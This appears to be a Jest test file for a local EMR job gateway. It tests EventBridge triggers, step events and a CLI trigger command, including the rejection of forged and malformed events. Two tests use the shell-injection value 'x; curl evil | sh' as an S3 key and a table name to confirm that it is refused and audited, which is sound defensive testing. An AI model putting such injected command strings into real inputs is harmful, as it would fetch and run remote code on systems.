/** Triggers, schedules and EMR step events on the local stack. */
import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { LocalStack } from '../../src/local/stack';
import { clientFor, finished, newDataDir, startStack, until } from '../support/local-stack';

jest.setTimeout(60_000);

let stack: LocalStack;
const dataDir = newDataDir();
beforeAll(async () => {
  stack = await startStack(dataDir);
});
afterAll(() => stack.stop());

const s3Event = (key?: string) => ({
  source: 'aws.s3',
  'detail-type': 'Object Created',
  detail: { bucket: { name: 'landing-bucket' }, ...(key ? { object: { key } } : {}) },
});

it('EMR step status changes reach the gateway as events: the job completes with no poll', async () => {
  // Another stack that polls an hour apart: the job's end can only come from the local EMR's step events.
  const slow = await startStack(newDataDir(), { polling: { initialSeconds: 3600, factor: 1, maxSeconds: 3600 } });
  try {
    await stepEvents(slow);
  } finally {
    await slow.stop();
  }
});

async function stepEvents(stack: LocalStack): Promise<void> {
  const alice = clientFor(stack, 'alice');
  const { jobId } = await alice.submit({ clusterId: 'j-2AXXXXXXGAPLF', executionRoleArn: 'arn:aws:iam::123456789012:role/CallerTeamRoleETL', name: 'evented', step: { type: 'command', args: ['sleep', '1'] } });
  const job = await finished(alice, jobId, 15_000);
  expect(job.status).toBe('COMPLETED');
  expect((await alice.audit(jobId)).events.map((e) => e.type)).toEqual(expect.arrayContaining(['DECISION', 'SUBMITTED', 'COMPLETED']));
}

/** PutEvents on the local AWS port, as the SDK sends it. */
async function putEvents(entries: Record<string, unknown>[]): Promise<{ FailedEntryCount: number; Entries: { EventId?: string; ErrorCode?: string; ErrorMessage?: string }[] }> {
  const response = await fetch(stack.awsUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'AWSEvents.PutEvents' },
    body: JSON.stringify({ Entries: entries }),
  });
  expect(response.status).toBe(200);
  return (await response.json()) as Awaited<ReturnType<typeof putEvents>>;
}

const partitionReady = (table: string, day: string) => ({ Source: 'com.example.pipeline', DetailType: 'Partition Ready', Detail: JSON.stringify({ table, day }) });

it('PutEvents on the local AWS port fires the matching trigger: the job runs with the event\'s values', async () => {
  const { FailedEntryCount, Entries } = await putEvents([partitionReady('orders_eu', '2026-11-28')]);
  expect(FailedEntryCount).toBe(0);
  const eventId = Entries[0]!.EventId!;
  const alice = clientFor(stack, 'alice');
  const job = await until(async () => (await alice.listJobs()).jobs.find((j) => j.name === 'compact orders_eu 2026-11-28'));
  expect(job.caller).toMatchObject({ principalArn: 'arn:aws:iam::123456789012:role/DataTeamA', trigger: 'trigger:partition-ready' });
  const done = await finished(alice, job.jobId, 15_000);
  expect(done.status).toBe('COMPLETED');
  expect(await (await fetch(`${stack.awsUrl}/_local/emr/steps/${done.step.id}/stdout`)).text()).toBe('compacting orders_eu for 2026-11-28\n');
  expect(eventId).toMatch(/^[0-9a-f-]{36}$/);
});

it('PutEvents refuses a forged aws.s3 event per entry, as AWS does: the S3 trigger never fires', async () => {
  const forged = { Source: 'aws.s3', DetailType: 'Object Created', Detail: JSON.stringify(s3Event('x; curl evil | sh').detail) };
  const answer = await putEvents([forged, { ...forged, Detail: '{"broken":' }]);
  expect(answer).toEqual({
    FailedEntryCount: 2,
    Entries: [
      { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' },
      { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' },
    ],
  });
  const malformed = await putEvents([{ ...partitionReady('orders_eu', '2026-11-29'), Detail: '[1]' }]);
  expect(malformed.Entries).toEqual([{ ErrorCode: 'MalformedDetail', ErrorMessage: 'Detail is malformed.' }]);
  await new Promise((r) => setTimeout(r, 300));
  expect(await stack.gateway.audit.list('trigger:landing')).toEqual([]);
  expect((await clientFor(stack, 'alice').listJobs()).jobs.filter((j) => j.caller.trigger === 'trigger:landing')).toEqual([]);
});

it('a shell-injecting value that matches the pattern is refused at fire time and audited on the trigger chain', async () => {
  // The wildcard orders_* admits it; the template's declared pattern does not.
  const { Entries } = await putEvents([partitionReady('orders_x; curl evil | sh', '2026-11-28')]);
  const trail = await until(async () => {
    const events = await stack.gateway.audit.list('trigger:partition-ready');
    return events.find((e) => e.type === 'TRIGGER_REJECTED') ? events : undefined;
  });
  expect(trail.map((e) => [e.type, e.detail?.invocation])).toEqual([['TRIGGER_REJECTED', `event:partition-ready:${Entries[0]!.EventId!}`]]);
  expect(trail[0]?.detail?.issues).toEqual([{ field: 'params.table', message: '"orders_x; curl evil | sh" does not match [a-z][a-z0-9_]{0,63}' }]);
});

it('emr-gateway trigger NAME --event FILE: submitted, or rejected with the reason (exit 1)', async () => {
  const cli = (file: string) =>
    new Promise<{ code: number; stdout: string }>((done) =>
      execFile(process.execPath, [resolve(__dirname, '../../bin/emr-gateway.js'), 'trigger', 'landing', '--event', file, '--aws-endpoint', stack.awsUrl], { env: { PATH: process.env.PATH } }, (error, stdout) =>
        done({ code: error ? Number(error.code) : 0, stdout }),
      ),
    );
  const good = join(dataDir, 'good.json');
  writeFileSync(good, JSON.stringify({ id: 'evt-cli-1', ...s3Event('raw/cli.csv') }));
  const submitted = await cli(good);
  expect(submitted.code).toBe(0);
  expect(submitted.stdout).toMatch(/^job-[0-9a-z]{26} {2}submitted$/m);
  const bad = join(dataDir, 'bad.json');
  writeFileSync(bad, JSON.stringify({ id: 'evt-cli-2', ...s3Event() }));
  const rejected = await cli(bad);
  expect(rejected.code).toBe(1);
  expect(rejected.stdout).toContain('params.key: the event has no $.detail.object.key');
});

it('emr-gateway trigger NAME --event FILE honours the trigger\'s event pattern: an event its rule would not deliver is refused, exit 2', async () => {
  const wrong = join(dataDir, 'wrong.json');
  writeFileSync(wrong, JSON.stringify({ id: 'evt-cli-3', ...s3Event('raw/cli.csv'), detail: { bucket: { name: 'other-bucket' }, object: { key: 'raw/cli.csv' } } }));
  const r = await new Promise<{ code: number; stderr: string }>((done) =>
    execFile(process.execPath, [resolve(__dirname, '../../bin/emr-gateway.js'), 'trigger', 'landing', '--event', wrong, '--aws-endpoint', stack.awsUrl], { env: { PATH: process.env.PATH } }, (error, _stdout, stderr) =>
      done({ code: error ? Number(error.code) : 0, stderr }),
    ),
  );
  expect(r.code).toBe(2);
  expect(r.stderr).toContain(`emr-gateway trigger: the event does not match trigger landing's event pattern: detail.bucket.name is "other-bucket", the pattern wants ["landing-bucket"]`);
  expect((await stack.gateway.audit.list('trigger:landing')).filter((e) => e.detail?.invocation === 'event:landing:evt-cli-3')).toEqual([]);
  expect((await clientFor(stack, 'alice').listJobs()).jobs.filter((j) => j.name === 'ingest evt-cli-3')).toEqual([]);
});
